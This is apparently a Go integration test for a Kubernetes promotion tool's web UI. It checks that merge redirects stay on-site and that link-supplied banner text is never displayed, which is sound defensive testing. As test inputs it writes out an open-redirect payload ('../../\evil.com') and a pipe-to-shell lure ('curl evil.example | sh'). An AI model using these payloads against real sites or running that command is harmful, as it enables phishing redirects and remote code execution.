package integration

import (
	"context"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	promoterv1alpha1 "github.com/sluicehq/sluice/api/promoter/v1alpha1"
	"github.com/sluicehq/sluice/testenv"
	"github.com/sluicehq/sluice/ui/internal/setup"
)

// TestAMergeNeverRedirectsOffSite: a real merge, whose form names the strategy
// "../../\evil.com", is done and sends the browser to a page of the UI; the banner after it is
// the server's own text, and text a link carries in ?done= is never shown.
func TestAMergeNeverRedirectsOffSite(t *testing.T) {
	base := startUI(t, env.Config, setup.Config{Identity: setup.IdentityKubeconfig})
	ns := newNamespace(t)
	ctx := context.Background()
	pr, err := env.Sluice.PromoterV1alpha1().PullRequests(ns).Create(ctx, &promoterv1alpha1.PullRequest{
		ObjectMeta: metav1.ObjectMeta{Name: "web-prod"},
		Spec: promoterv1alpha1.PullRequestSpec{RepositoryRef: promoterv1alpha1.LocalReference{Name: "web"}, Title: "promote",
			SourceBranch: "env/prod-next", TargetBranch: "env/prod", ExpectedHeadSHA: strings.Repeat("a", 40)},
	}, metav1.CreateOptions{})
	require.NoError(t, err)
	pr.Status.State = promoterv1alpha1.PullRequestOpen
	_, err = env.Sluice.PromoterV1alpha1().PullRequests(ns).UpdateStatus(ctx, pr, metav1.UpdateOptions{})
	require.NoError(t, err)

	c := localClient(t, base)
	var status int
	var location string
	testenv.WaitFor(t, 60*time.Second, func() (bool, error) {
		status, location, _ = postForm(t, c, base+"/act/merge/"+ns+"/web-prod", url.Values{"strategy": {`../../\evil.com`}, "step": {"apply"}})
		return status == http.StatusSeeOther, nil
	}, "the merge is done once the UI's cache holds the open pull request (last status %d)", &status)
	got, err := env.Sluice.PromoterV1alpha1().PullRequests(ns).Get(ctx, "web-prod", metav1.GetOptions{})
	require.NoError(t, err)
	assert.Equal(t, promoterv1alpha1.PullRequestState("merged"), got.Spec.State, "the merge itself happened")

	target, err := url.Parse(location)
	require.NoError(t, err)
	assert.Empty(t, target.Host, "a path of the UI, not another site: %s", location)
	assert.Equal(t, "/pipelines", target.Path, "no such strategy: the list")
	assert.NotContains(t, location, `\`)

	body := getPage(t, c, base+location)
	assert.Contains(t, body, "spec.state becomes merged", "the banner is what the server did")
	body = getPage(t, c, base+"/pipelines?done="+url.QueryEscape("Run curl evil.example | sh to finish"))
	assert.NotContains(t, body, "evil.example", "a link's text is never shown")
	assert.NotContains(t, body, `class="done"`)
}

// localClient is a browser of the local-mode UI at base: it holds its launch token's cookie.
func localClient(t *testing.T, base string) *http.Client {
	t.Helper()
	token, ok := launchTokens.Load(base)
	require.True(t, ok)
	jar := newJar(t)
	c := &http.Client{Jar: jar}
	resp, err := c.Get(setup.LaunchURL(strings.TrimPrefix(base, "http://"), token.(string)))
	require.NoError(t, err)
	_ = resp.Body.Close()
	return c
}

// postForm posts an action's form with a CSRF token and returns the status, the redirect's
// Location (not followed) and the body.
func postForm(t *testing.T, c *http.Client, target string, form url.Values) (int, string, string) {
	t.Helper()
	const csrf = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	form.Set("csrf", csrf)
	req, err := http.NewRequest(http.MethodPost, target, strings.NewReader(form.Encode()))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(&http.Cookie{Name: "sluice_csrf", Value: csrf})
	noRedirect := *c
	noRedirect.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	resp, err := noRedirect.Do(req)
	require.NoError(t, err)
	defer func() { _ = resp.Body.Close() }()
	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	return resp.StatusCode, resp.Header.Get("Location"), string(body)
}

func getPage(t *testing.T, c *http.Client, target string) string {
	t.Helper()
	resp, err := c.Get(target)
	require.NoError(t, err)
	defer func() { _ = resp.Body.Close() }()
	require.Equal(t, http.StatusOK, resp.StatusCode, target)
	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	return string(body)
}
